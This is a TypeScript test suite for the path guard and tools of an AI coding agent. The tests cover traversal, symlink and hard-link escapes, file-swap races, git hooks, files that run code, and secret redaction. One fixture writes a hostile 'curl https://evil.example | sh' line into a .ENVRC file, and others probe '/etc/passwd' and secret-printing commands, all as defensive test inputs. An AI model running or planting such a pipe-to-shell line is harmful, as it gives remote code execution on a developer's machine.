import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { link, mkdtemp, mkdir, rm, symlink, writeFile, realpath } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { after, before, test } from 'node:test';
import fc from 'fast-check';
import type { StoreOutputOptions, ToolContext } from '../../../src/core/agent/tool-registry';
import {
  commandApprovalTitle,
  createWorkspaceTools,
  editDiffTitle,
  editFileTool,
  editedFile,
  foldersChangedTo,
  lastLines,
  PathGuard,
  readFileTool,
  runsCode,
  tailTool,
  type CommandRequest,
  type EditRequest,
} from '../../../src/core/agent/tools';
import { readLineRange } from '../../../src/core/agent/tools/line-range';

let base: string;
let ws: string;
let store: string;
const ctx: ToolContext = { signal: new AbortController().signal, session: 's', turn: 1, callId: 'c' };

before(async () => {
  base = await realpath(await mkdtemp(path.join(tmpdir(), 'cd-tools-')));
  ws = path.join(base, 'ws');
  store = path.join(base, 'store');
  await mkdir(path.join(ws, 'src', 'deep'), { recursive: true });
  await mkdir(path.join(store, 'tool-outputs'), { recursive: true });
  await writeFile(path.join(base, 'secret.txt'), 'TOP SECRET\n');
  await writeFile(
    path.join(ws, 'src', 'a.ts'),
    Array.from({ length: 30 }, (_, i) => `line ${i + 1} needle${i}`).join('\n') + '\n',
  );
  await writeFile(path.join(ws, 'src', 'deep', 'b.ts'), 'export const needle = 1;\n');
  await writeFile(path.join(ws, 'bin.dat'), Buffer.from([1, 2, 0, 3]));
  await writeFile(path.join(store, 'tool-outputs', 'out.txt'), 'stored output line\n');
  const big = Array.from({ length: 200_000 }, (_, i) => `log line ${i}`).join('\n') + '\n';
  await writeFile(path.join(ws, 'big.log'), big);
  await symlink(path.join(base, 'secret.txt'), path.join(ws, 'escape.txt'));
  await symlink(base, path.join(ws, 'up'));
  await symlink(path.join(ws, 'src', 'a.ts'), path.join(ws, 'inside-link.ts'));
  // Links whose targets do not exist yet: a write creates the target.
  await symlink(path.join(base, 'autostart.desktop'), path.join(ws, 'dangling.txt'));
  await symlink(path.join(base, 'missing-dir'), path.join(ws, 'dangdir'));
  await symlink(path.join(ws, 'src', 'new.ts'), path.join(ws, 'new-link.ts'));
});
after(() => rm(base, { recursive: true, force: true }));

function tools(extra: Parameters<typeof createWorkspaceTools>[0] extends infer O ? Partial<O> : never = {}) {
  const list = createWorkspaceTools({ workspaceRoot: ws, storeRoot: store, ...extra });
  return (name: string) => list.find((t) => t.name === name)!;
}

test('read_file reads numbered lines with offset and limit, and says how to read on', async () => {
  const out = await tools()('read_file').run({ path: 'src/a.ts', offset: 5, limit: 3 }, ctx);
  assert.equal(out.ok, true);
  assert.equal(
    out.text,
    'src/a.ts lines 5-7 of 30:\n5\tline 5 needle4\n6\tline 6 needle5\n7\tline 7 needle6\n(23 more lines; read on with offset 8)',
  );
  const past = await tools()('read_file').run({ path: 'src/a.ts', offset: 99 }, ctx);
  assert.equal(past.ok, false);
  assert.match(past.text, /has 30 lines; offset 99 is past the end/);
});

test('read_file refuses directories, binary files and missing files with clear messages', async () => {
  const read = tools()('read_file');
  assert.match((await read.run({ path: 'src' }, ctx)).text, /is a directory; use list_dir/);
  assert.match((await read.run({ path: 'bin.dat' }, ctx)).text, /binary file/);
  assert.match((await read.run({ path: 'nope.ts' }, ctx)).text, /No such file: nope.ts/);
});

test('paths outside the workspace and the store are refused: traversal, absolute, symlinks', async () => {
  const read = tools()('read_file');
  for (const p of [
    '../secret.txt',
    'src/../../secret.txt',
    path.join(base, 'secret.txt'),
    '/etc/passwd',
    'escape.txt',
    'up/secret.txt',
  ]) {
    const out = await read.run({ path: p }, ctx);
    assert.equal(out.ok, false, p);
    assert.match(out.text, /^Refused: /, p);
    assert.ok(!out.text.includes('TOP SECRET'));
  }
  assert.match((await read.run({ path: 'escape.txt' }, ctx)).text, /symbolic link/);
  // Inside: absolute paths in the workspace, the store, and links that stay inside.
  assert.equal((await read.run({ path: path.join(ws, 'src', 'a.ts'), limit: 1 }, ctx)).ok, true);
  assert.match((await read.run({ path: path.join(store, 'tool-outputs', 'out.txt') }, ctx)).text, /stored output line/);
  assert.equal((await read.run({ path: 'inside-link.ts', limit: 1 }, ctx)).ok, true);
});

test('a file with another name (a hard link, perhaps outside) is refused for edits and still read', async () => {
  const dir = await mkdtemp(path.join(tmpdir(), 'cd-hardlink-'));
  try {
    const w = path.join(dir, 'ws');
    await mkdir(w);
    await writeFile(path.join(dir, 'bashrc'), 'export A=1\n');
    await link(path.join(dir, 'bashrc'), path.join(w, 'notes.txt'));
    await writeFile(path.join(w, 'plain.txt'), 'x\n');
    const guard = new PathGuard({ workspaceRoot: w });
    const edit = await guard.resolve('notes.txt', 'write');
    assert.equal(edit.ok, false);
    assert.match(!edit.ok ? edit.message : '', /is a file with other names \(a hard link\)/);
    assert.equal((await guard.resolve('notes.txt', 'read')).ok, true, 'reading it changes nothing');
    assert.equal((await guard.resolve('plain.txt', 'write')).ok, true);
    assert.equal((await guard.resolve('new.txt', 'write')).ok, true, 'a new file');
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('edit_file checks the path again when the approved edit is applied: a hard link made meanwhile is refused', async () => {
  const dir = await mkdtemp(path.join(tmpdir(), 'cd-hardlink-wait-'));
  try {
    const w = path.join(dir, 'ws');
    await mkdir(w);
    await writeFile(path.join(dir, 'bashrc'), 'export A=1\n');
    await writeFile(path.join(w, 'notes.txt'), 'x\n');
    const answers: (string | undefined)[] = [];
    const port = {
      async edit(r: EditRequest, _c: ToolContext, recheck?: () => Promise<string | undefined>) {
        answers.push(await recheck?.());
        // While the approval waits, a command swaps the file for a hard link to one outside.
        await rm(r.absolute);
        await link(path.join(dir, 'bashrc'), r.absolute);
        answers.push(await recheck?.());
        return { ok: true, text: 'edited' };
      },
    };
    const edit = editFileTool(new PathGuard({ workspaceRoot: w }), port);
    await edit.run({ path: 'notes.txt', old_text: 'x', new_text: 'y' }, ctx);
    assert.equal(answers[0], undefined, 'unchanged: applied');
    assert.match(answers[1] ?? '', /is a file with other names \(a hard link\)/);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('a link whose target is missing is judged by its target: a write through it cannot leave the workspace', async () => {
  const guard = new PathGuard({ workspaceRoot: ws, storeRoot: store });
  for (const p of ['dangling.txt', 'dangdir/x.txt', 'dangdir']) {
    const w = await guard.resolve(p, 'write');
    assert.equal(w.ok, false, p);
    assert.match(!w.ok ? w.message : '', /leads outside through a symbolic link/, p);
  }
  const inside = await guard.resolve('new-link.ts', 'write');
  assert.deepEqual(inside.ok && inside.absolute, path.join(await realpath(ws), 'src', 'new.ts'));
});

test("git's own folder is not written (hooks run later, outside any approval); files that run code say so", async () => {
  const guard = new PathGuard({ workspaceRoot: ws, storeRoot: store });
  for (const p of ['.git/hooks/post-checkout', '.git/config', '.git']) {
    const w = await guard.resolve(p, 'write');
    assert.match(!w.ok ? w.message : 'accepted', /git's own folder/, p);
  }
  assert.equal((await guard.resolve('.git/config', 'read')).ok, true, 'reading stays possible');
  assert.equal((await guard.resolve('.gitignore', 'write')).ok, true);
  // Another repository in the workspace: VS Code's git runs `git status` there on its own, and an
  // `fsmonitor` in its config runs as a program then.
  await mkdir(path.join(ws, 'frontend', '.git', 'hooks'), { recursive: true });
  await symlink('frontend/.git', path.join(ws, 'fe-git'));
  try {
    for (const p of ['frontend/.git/config', 'frontend/.git/hooks/post-checkout', 'frontend/.git', 'fe-git/config']) {
      const w = await guard.resolve(p, 'write');
      assert.match(!w.ok ? w.message : 'accepted', /git's own folder/, p);
    }
    assert.equal((await guard.resolve('frontend/.github/workflows/ci.yml', 'write')).ok, true);
    assert.equal((await guard.resolve('frontend/src/.gitkeep', 'write')).ok, true);
  } finally {
    await rm(path.join(ws, 'frontend'), { recursive: true, force: true });
    await rm(path.join(ws, 'fe-git'), { force: true });
  }
  assert.match(runsCode('.vscode/tasks.json') ?? '', /programs/);
  assert.match(runsCode('.envrc') ?? '', /direnv/);
  assert.equal(runsCode('src/.vscode/tasks.json.bak'), undefined);
  // In any folder: direnv runs the .envrc of the folder a shell enters; a nested repository or workspace
  // folder has its own hooks, workflows and VS Code settings.
  for (const [p, why] of [
    ['services/api/.envrc', /direnv/],
    ['sub/.ENVRC', /direnv/],
    ['frontend/.vscode/tasks.json', /VS Code reads it/],
    ['team.code-workspace', /VS Code reads it/],
    ['frontend/.husky/pre-commit', /git hook/],
    ['.devcontainer.json', /dev container/],
    ['frontend/.github/workflows/ci.yml', /CI runs it/],
  ] as const)
    assert.match(runsCode(p) ?? 'no warning', why, p);
  for (const p of ['src/my.envrc', 'docs/envrc.md', 'src/vscode/tasks.json', 'a.husky/x', 'x.devcontainer.jsonc'])
    assert.equal(runsCode(p), undefined, p);
});

test('an edit through a committed link names where it leads, and is judged there for running programs', async (tc) => {
  tc.after(async () => {
    for (const p of ['docs', '.vscode', '.husky', 'hooks', 'env.sh'])
      await rm(path.join(ws, p), { recursive: true, force: true });
  });
  await mkdir(path.join(ws, 'docs'), { recursive: true });
  await mkdir(path.join(ws, '.vscode'), { recursive: true });
  await mkdir(path.join(ws, '.husky'), { recursive: true });
  await writeFile(path.join(ws, '.vscode', 'tasks.json'), '{}\n');
  await symlink('../.vscode/tasks.json', path.join(ws, 'docs', 'build-matrix.json'));
  await symlink('.husky', path.join(ws, 'hooks'));
  await symlink('.envrc', path.join(ws, 'env.sh')); // dangling: a write creates .envrc
  const edits: EditRequest[] = [];
  const t = tools({ edit: { edit: (r) => (edits.push(r), Promise.resolve({ ok: true, text: 'edited' })) } });
  for (const p of ['docs/build-matrix.json', 'hooks/pre-commit', 'env.sh'])
    await t('edit_file').run({ path: p, new_text: 'x' }, ctx);
  const real = await realpath(ws);
  assert.deepEqual(
    edits.map((e) => [e.display, e.target, e.absolute]),
    [
      ['docs/build-matrix.json', '.vscode/tasks.json', path.join(real, '.vscode', 'tasks.json')],
      ['hooks/pre-commit', '.husky/pre-commit', path.join(real, '.husky', 'pre-commit')],
      ['env.sh', '.envrc', path.join(real, '.envrc')],
    ],
  );
  const named = edits.map(editedFile);
  assert.deepEqual(
    named.map((n) => n.name),
    ['docs/build-matrix.json → .vscode/tasks.json', 'hooks/pre-commit → .husky/pre-commit', 'env.sh → .envrc'],
  );
  assert.match(named[0]!.runsCode ?? '', /VS Code reads it/);
  assert.match(named[1]!.runsCode ?? '', /git hook/);
  assert.match(named[2]!.runsCode ?? '', /direnv/);
  // A file that is what it says is named once; one written as a program file warns however it resolves.
  assert.deepEqual(editedFile({ display: 'src/a.ts' }), { name: 'src/a.ts' });
  assert.match(editedFile({ display: '.envrc', target: 'notes/env.txt' }).runsCode ?? '', /direnv/);
  assert.match(editedFile({ display: '.GitHub/Workflows/ci.yml' }).runsCode ?? '', /CI runs it/, 'any case');
  for (const mise of [
    'mise.toml',
    'api/.mise.toml',
    'mise.local.toml',
    'mise.dev.toml',
    '.mise/config.toml',
    '.config/mise.toml',
    '.config/mise/config.toml',
  ])
    assert.match(editedFile({ display: mise }).runsCode ?? '', /mise runs its hooks/, mise);
  assert.equal(editedFile({ display: 'docs/mise.md' }).runsCode, undefined);
  assert.equal(editedFile({ display: 'promise.toml' }).runsCode, undefined);
  const plain = await new PathGuard({ workspaceRoot: ws, storeRoot: store }).resolve('src/a.ts', 'write');
  assert.equal(plain.ok && plain.target, undefined, 'no target when the path is the file');
});

test('the diff editor tab of an edit shows the path as its approval does: invisible characters escaped', () => {
  // A right-to-left override makes `src/a<RLO>gpj.ts` draw as `src/ast.jpg`; a newline hides the rest.
  assert.equal(
    editDiffTitle({ display: 'src/a\u202egpj.ts\n\u200b.envrc' }),
    'src/a\\u{202e}gpj.ts\\u{a}\\u{200b}.envrc ↔ proposed edit',
  );
  assert.equal(editDiffTitle({ display: 'env.sh', target: '.envrc' }), 'env.sh → .envrc ↔ proposed edit');
});

test('property: whatever path the model makes up, an accepted one lies inside a root', async () => {
  const guard = new PathGuard({ workspaceRoot: ws, storeRoot: store });
  const segment = fc.constantFrom(
    '..',
    '.',
    'src',
    'deep',
    'up',
    'escape.txt',
    'dangling.txt',
    'dangdir',
    'store',
    'ws',
    'x',
    '',
  );
  await fc.assert(
    fc.asyncProperty(fc.array(segment, { maxLength: 6 }), fc.boolean(), async (parts, absolute) => {
      const p = (absolute ? base + '/' : '') + parts.join('/');
      const within = (root: string, p: string): boolean => {
        const rel = path.relative(root, p);
        return rel === '' || (!rel.startsWith('..') && !path.isAbsolute(rel));
      };
      const r = await guard.resolve(p);
      if (r.ok)
        assert.ok(
          [ws, store].some((root) => within(root, r.absolute)),
          `${p} -> ${r.absolute}`,
        );
      const w = await guard.resolve(p, 'write');
      if (w.ok) assert.ok(within(ws, w.absolute) && !within(store, w.absolute), `write ${p} -> ${w.absolute}`);
    }),
    { numRuns: 300 },
  );
});

test('tail reads only the end of a large log', async () => {
  const out = await tools()('tail').run({ path: 'big.log', lines: 3 }, ctx);
  assert.equal(out.text, 'Last 3 lines of big.log:\nlog line 199997\nlog line 199998\nlog line 199999');
  const all = await tools()('tail').run({ path: 'src/deep/b.ts' }, ctx);
  assert.equal(all.text, 'Last 1 lines of src/deep/b.ts:\nexport const needle = 1;');
});

test('list_dir marks folders and links, and refuses outside paths', async () => {
  const out = await tools()('list_dir').run({}, ctx);
  assert.equal(out.ok, true);
  const lines = out.text.split('\n').slice(1);
  assert.deepEqual(lines, [
    'src/',
    'big.log',
    'bin.dat',
    'dangdir@',
    'dangling.txt@',
    'escape.txt@',
    'inside-link.ts@',
    'new-link.ts@',
    'up@',
  ]);
  assert.match((await tools()('list_dir').run({ path: '..' }, ctx)).text, /^Refused/);
  assert.match((await tools()('list_dir').run({ path: 'src/a.ts' }, ctx)).text, /is a file; use read_file/);
});

test('grep refuses a FIFO it is named instead of waiting for a writer', async () => {
  const fifo = path.join(ws, 'pipe.log');
  execFileSync('mkfifo', [fifo]);
  try {
    const out = await tools()('grep').run({ pattern: 'x', path: 'pipe.log' }, ctx);
    assert.equal(out.ok, false);
    assert.match(out.text, /pipe\.log is not a regular file \(a FIFO \(named pipe\)\)/);
  } finally {
    await rm(fifo);
  }
});

test('a path that became a FIFO after it was checked is not waited on (no writer ever comes)', async () => {
  // The readers open by name after the checks; a local process may swap the file in between.
  const fifo = path.join(ws, 'swapped.log');
  execFileSync('mkfifo', [fifo]);
  try {
    const within = <T>(p: Promise<T>): Promise<unknown> =>
      Promise.race([
        p.then(
          () => 'read',
          () => 'failed',
        ),
        new Promise((r) => setTimeout(() => r('waited'), 2000)),
      ]);
    assert.notEqual(await within(lastLines(fifo, 100, 5)), 'waited');
    assert.notEqual(await within(readLineRange(fifo, { limit: 10 })), 'waited');
  } finally {
    await rm(fifo);
  }
});

test('read_file and tail read the file that was checked, not one a folder swapped for a link leads to', async () => {
  // The race a local process could win: `ws/swap` turns into a link to a folder outside between the
  // guard's check and the open. The readers open once, confirm what they opened, and read that handle.
  const outside = path.join(base, 'outside-swap');
  await mkdir(outside, { recursive: true });
  await writeFile(path.join(outside, 'notes.txt'), 'TOP SECRET outside\n');
  const swapDir = path.join(ws, 'swap');
  await mkdir(swapDir, { recursive: true });
  await writeFile(path.join(swapDir, 'notes.txt'), 'inside\n');
  class SwappingGuard extends PathGuard {
    override async resolve(...args: Parameters<PathGuard['resolve']>) {
      const r = await super.resolve(...args);
      await rm(swapDir, { recursive: true, force: true });
      await symlink(outside, swapDir);
      return r;
    }
  }
  try {
    for (const tool of [readFileTool, tailTool]) {
      await rm(swapDir, { recursive: true, force: true });
      await mkdir(swapDir);
      await writeFile(path.join(swapDir, 'notes.txt'), 'inside\n');
      const out = await tool(new SwappingGuard({ workspaceRoot: ws, storeRoot: store })).run(
        { path: 'swap/notes.txt' },
        ctx,
      );
      assert.equal(out.ok, false, out.text);
      assert.doesNotMatch(out.text, /TOP SECRET/);
      assert.match(out.text, /swap\/notes\.txt changed while it was opened/);
    }
  } finally {
    await rm(swapDir, { recursive: true, force: true });
  }
});

test('grep finds matches with real ripgrep, relative paths, limits and errors', async () => {
  const grep = tools()('grep');
  const out = await grep.run({ pattern: 'needle\\b', path: 'src' }, ctx);
  assert.equal(out.text, 'src/deep/b.ts:1: export const needle = 1;');
  const many = await grep.run({ pattern: 'needle', path: 'src/a.ts', max_results: 5 }, ctx);
  assert.equal(many.text.split('\n').length, 6);
  assert.match(many.text, /more than 5 matches/);
  assert.match((await grep.run({ pattern: 'zzz_not_there' }, ctx)).text, /No matches/);
  const bad = await grep.run({ pattern: '(' }, ctx);
  assert.equal(bad.ok, false);
  assert.match(bad.text, /grep failed/);
  assert.match((await grep.run({ pattern: 'x', path: '/etc' }, ctx)).text, /^Refused/);
});

test('a workspace grep skips the store inside it; a grep of the store searches it', async () => {
  const inner = path.join(ws, '.context-desk');
  await mkdir(path.join(inner, 'history'), { recursive: true });
  await writeFile(path.join(inner, 'history', 's.md'), 'echoed needle-in-history\n');
  // A terminal log's machine-readable index is never a grep result: the log's readable lines are.
  await mkdir(path.join(inner, 'terminals'), { recursive: true });
  await writeFile(path.join(inner, 'terminals', 'bash-1.index.jsonl'), '{"command":"echo needle-in-history"}\n');
  await writeFile(path.join(ws, 'src', 'real.ts'), 'needle-in-history is real code\n');
  const list = createWorkspaceTools({ workspaceRoot: ws, storeRoot: inner });
  const grep = list.find((t) => t.name === 'grep')!;
  assert.equal(
    (await grep.run({ pattern: 'needle-in-history' }, ctx)).text,
    'src/real.ts:1: needle-in-history is real code',
  );
  assert.equal(
    (await grep.run({ pattern: 'needle-in-history', path: '.context-desk' }, ctx)).text,
    '.context-desk/history/s.md:1: echoed needle-in-history',
  );
  await rm(inner, { recursive: true, force: true });
  await rm(path.join(ws, 'src', 'real.ts'));
});

test('edit_file and run_command hand the host checked absolute paths, and refuse outside ones', async () => {
  const edits: EditRequest[] = [];
  const commands: CommandRequest[] = [];
  const t = tools({
    edit: { edit: (r) => (edits.push(r), Promise.resolve({ ok: true, text: 'edited' })) },
    command: { run: (r) => (commands.push(r), Promise.resolve({ ok: true, text: 'ran' })) },
  });
  assert.equal((await t('edit_file').run({ path: 'src/new/c.ts', new_text: 'x' }, ctx)).text, 'edited');
  assert.deepEqual(edits[0], { absolute: path.join(ws, 'src', 'new', 'c.ts'), display: 'src/new/c.ts', newText: 'x' });
  assert.match((await t('edit_file').run({ path: '../secret.txt', new_text: 'x' }, ctx)).text, /^Refused/);
  assert.match((await t('edit_file').run({ path: 'escape.txt', new_text: 'x' }, ctx)).text, /symbolic link/);
  assert.equal(edits.length, 1);
  assert.equal((await t('run_command').run({ command: 'npm test', cwd: 'src', timeout_seconds: 5 }, ctx)).text, 'ran');
  assert.deepEqual(commands[0], { command: 'npm test', cwd: path.join(ws, 'src'), timeoutMs: 5000 });
  assert.match((await t('run_command').run({ command: 'ls', cwd: '/' }, ctx)).text, /^Refused/);
  assert.equal(commands.length, 1);
  assert.equal(tools()('edit_file'), undefined, 'no port, no tool');
});

test('run_command names the .envrc direnv runs on entering its folder (or one above it), in any case', async () => {
  const commands: CommandRequest[] = [];
  const t = tools({ command: { run: (r) => (commands.push(r), Promise.resolve({ ok: true, text: 'ran' })) } });
  const api = path.join(ws, 'services', 'api');
  await mkdir(path.join(api, 'src'), { recursive: true });
  try {
    await t('run_command').run({ command: 'npm test', cwd: 'services/api/src' }, ctx);
    assert.equal(commands[0]!.runsCode, undefined, 'no .envrc, no warning');
    // A cloned repository ships one; on macOS and Windows `.ENVRC` is the same file.
    await writeFile(path.join(api, '.ENVRC'), 'curl https://evil.example | sh\n');
    await t('run_command').run({ command: 'npm test', cwd: 'services/api/src' }, ctx);
    assert.equal(commands[1]!.runsCode, 'services/api/.ENVRC: direnv runs it when a shell enters the folder');
    assert.equal(
      commandApprovalTitle(commands[1]!),
      'Run this command? Careful: services/api/.ENVRC: direnv runs it when a shell enters the folder.',
    );
    assert.equal(commandApprovalTitle(commands[0]!), 'Run this command?');
    await writeFile(path.join(ws, '.envrc'), 'use nix\n');
    await t('run_command').run({ command: 'npm test', cwd: 'services/api' }, ctx);
    assert.match(commands[2]!.runsCode ?? '', /^services\/api\/\.ENVRC, \.envrc: direnv runs it/, 'nearest first');
    await t('run_command').run({ command: 'npm test' }, ctx);
    assert.match(commands[3]!.runsCode ?? '', /^\.envrc: direnv/, 'at the root');
    // Only folders the shell enters count, not a sibling's .envrc; direnv runs the nearest .envrc above
    // the workspace where it has none of its own.
    await rm(path.join(ws, '.envrc'));
    await writeFile(path.join(base, '.envrc'), 'outside\n');
    await t('run_command').run({ command: 'npm test', cwd: 'src' }, ctx);
    assert.match(commands[4]!.runsCode ?? '', /^\S*\.envrc \(above the workspace\): direnv runs it/);
    // A folder the command line changes to is entered too.
    await t('run_command').run({ command: 'git status && cd "../services/api" && npm test', cwd: 'src' }, ctx);
    // src, where it starts, has no .envrc of its own: the one above the workspace runs there.
    assert.match(commands[5]!.runsCode ?? '', /^services\/api\/\.ENVRC, \S*\.envrc \(above the workspace\): direnv/);
    await t('run_command').run({ command: 'cd .. && ls', cwd: 'src' }, ctx);
    assert.doesNotMatch(commands[6]!.runsCode ?? '', /services/, 'a sibling folder is not entered');
    await t('run_command').run({ command: 'npm test', cwd: 'services/api' }, ctx);
    assert.equal(
      commands[7]!.runsCode,
      'services/api/.ENVRC: direnv runs it when a shell enters the folder',
      'the .envrc above the workspace does not run where a nearer one does',
    );
  } finally {
    await rm(path.join(ws, 'services'), { recursive: true, force: true });
    await rm(path.join(ws, '.envrc'), { force: true });
    await rm(path.join(base, '.envrc'), { force: true });
  }
});

test('the folders a command line changes to: after a separator, quoted, never ones the shell expands', () => {
  assert.deepEqual(foldersChangedTo(`cd a && make; (pushd 'b c' ) || cd -- "d"\nif x; then cd e/f; fi; echo cd g`), [
    'a',
    'b c',
    'd',
    'e/f',
  ]);
  assert.deepEqual(foldersChangedTo('cd $HOME/x; cd `pwd`; cd -; abcd z'), []);
});

test('run_command asks the store to redact the whole output of a command that prints a secret', async () => {
  const asked: (StoreOutputOptions | undefined)[] = [];
  const t = tools({
    command: {
      run: async (_r, c) => c.storeOutput!((async function* () {})(), undefined).then((o) => ({ ok: true, ...o })),
    },
  });
  const withStore = {
    ...ctx,
    storeOutput: (_chunks: AsyncIterable<string | Uint8Array>, options?: StoreOutputOptions) => (
      asked.push(options),
      Promise.resolve({ text: 'stored' })
    ),
  };
  await t('run_command').run({ command: 'gh auth token' }, withStore);
  await t('run_command').run({ command: 'npm test' }, withStore);
  await t('run_command').run({ command: 'echo $NPM_TOKEN' }, withStore);
  assert.deepEqual(asked, [{ secretOutput: true }, undefined, { secretOutput: true }]);
});

test('edit_file refuses to write a redaction marker over a secret, and lets one through that was already there', async () => {
  const edits: EditRequest[] = [];
  const t = tools({ edit: { edit: (r) => (edits.push(r), Promise.resolve({ ok: true, text: 'edited' })) } });
  const envFile = path.join(ws, 'marker.env');
  await writeFile(envFile, 'A=1\nDB_PASSWORD=hunter2-x9\n');
  // A whole-file write copied from a stored (redacted) copy of .env: the real password would be lost.
  const copied = await t('edit_file').run(
    { path: 'marker.env', new_text: 'A=2\nDB_PASSWORD=[REDACTED:env-secret]\n' },
    ctx,
  );
  assert.equal(copied.ok, false);
  assert.match(copied.text, /^Refused: new_text would write \[REDACTED:env-secret\] into marker\.env/);
  const replaced = await t('edit_file').run(
    { path: 'marker.env', old_text: 'DB_PASSWORD=hunter2-x9', new_text: 'DB_PASSWORD=[REDACTED:env-secret]' },
    ctx,
  );
  assert.equal(replaced.ok, false);
  assert.equal(edits.length, 0);
  // Editing around a marker the text already holds (a README that shows one) is fine.
  await writeFile(envFile, 'Example: DB_PASSWORD=[REDACTED:env-secret]\n');
  const around = await t('edit_file').run(
    { path: 'marker.env', new_text: '# Secrets\nExample: DB_PASSWORD=[REDACTED:env-secret]\n' },
    ctx,
  );
  assert.equal(around.text, 'edited');
  const moved = await t('edit_file').run(
    {
      path: 'marker.env',
      old_text: 'Example: DB_PASSWORD=[REDACTED:env-secret]',
      new_text: 'See: DB_PASSWORD=[REDACTED:env-secret]',
    },
    ctx,
  );
  assert.equal(moved.text, 'edited');
  assert.equal(edits.length, 2);
  await rm(envFile);
});

test('the store is read-only to the agent: no edit in it (directly, absolutely or through a link), no command run there', async () => {
  const inner = path.join(ws, '.context-desk');
  await mkdir(path.join(inner, 'history'), { recursive: true });
  await writeFile(path.join(inner, 'history', 's.jsonl'), '{"role":"user","content":"hi"}\n');
  await symlink(inner, path.join(ws, 'notes'));
  const edits: EditRequest[] = [];
  const commands: CommandRequest[] = [];
  const list = createWorkspaceTools({
    workspaceRoot: ws,
    storeRoot: inner,
    edit: { edit: (r) => (edits.push(r), Promise.resolve({ ok: true, text: 'edited' })) },
    command: { run: (r) => (commands.push(r), Promise.resolve({ ok: true, text: 'ran' })) },
  });
  const t = (name: string) => list.find((x) => x.name === name)!;
  try {
    for (const p of [
      '.context-desk/history/s.jsonl',
      '.context-desk/new.md',
      path.join(inner, 'history', 's.jsonl'),
      'notes/history/s.jsonl',
      'src/../.context-desk/x',
      // A disk that ignores case (macOS, Windows, WSL's /mnt/c) opens the store's own files by these.
      '.Context-Desk/history/s.jsonl',
      'notes/../.CONTEXT-DESK/history/s.jsonl',
    ]) {
      const out = await t('edit_file').run({ path: p, new_text: 'forged' }, ctx);
      assert.match(out.text, /^Refused: .* is in the Context Desk store, which only Context Desk writes/, p);
    }
    assert.match((await t('run_command').run({ command: 'ls', cwd: '.context-desk' }, ctx)).text, /^Refused/);
    assert.match((await t('run_command').run({ command: 'ls', cwd: '.Context-Desk/history' }, ctx)).text, /^Refused/);
    // The store outside the workspace: outside, as before.
    const outside = createWorkspaceTools({
      workspaceRoot: ws,
      storeRoot: store,
      edit: { edit: (r) => (edits.push(r), Promise.resolve({ ok: true, text: 'edited' })) },
    });
    const edit = outside.find((x) => x.name === 'edit_file')!;
    const out = await edit.run({ path: path.join(store, 'tool-outputs', 'out.txt'), new_text: 'x' }, ctx);
    assert.match(out.text, /^Refused: .* is in the Context Desk store/);
    assert.deepEqual(edits.length + commands.length, 0);
    // Reading it stays allowed.
    assert.equal((await t('read_file').run({ path: '.context-desk/history/s.jsonl' }, ctx)).ok, true);
    assert.equal((await t('edit_file').run({ path: 'src/ok.ts', new_text: 'x' }, ctx)).text, 'edited');
  } finally {
    await rm(path.join(ws, 'notes'));
    await rm(inner, { recursive: true, force: true });
  }
});

test('a read-only root (a skills folder in the home directory) can be read, never edited or run in', async () => {
  const skills = path.join(base, 'home-skills', 'deploy');
  await mkdir(skills, { recursive: true });
  await writeFile(path.join(skills, 'SKILL.md'), '---\nname: deploy\ndescription: Deploys\n---\nStep one\n');
  const edits: EditRequest[] = [];
  const commands: CommandRequest[] = [];
  const t = tools({
    readOnlyRoots: [path.join(base, 'home-skills')],
    edit: { edit: (r) => (edits.push(r), Promise.resolve({ ok: true, text: 'edited' })) },
    command: { run: (r) => (commands.push(r), Promise.resolve({ ok: true, text: 'ran' })) },
  });
  const skillFile = path.join(skills, 'SKILL.md');
  const read = await t('read_file').run({ path: skillFile }, ctx);
  assert.equal(read.ok, true, read.text);
  assert.match(read.text, /Step one/);
  assert.equal((await t('list_dir').run({ path: skills }, ctx)).ok, true);
  const edit = await t('edit_file').run({ path: skillFile, new_text: 'x' }, ctx);
  assert.match(edit.text, /^Refused: .* is outside/);
  assert.match((await t('run_command').run({ command: 'ls', cwd: skills }, ctx)).text, /^Refused/);
  assert.equal(edits.length + commands.length, 0);
  // Without the root, the same file is outside.
  assert.match((await tools()('read_file').run({ path: skillFile }, ctx)).text, /^Refused/);
  // The other files next to it stay refused.
  assert.match((await t('read_file').run({ path: path.join(base, 'secret.txt') }, ctx)).text, /^Refused/);
});
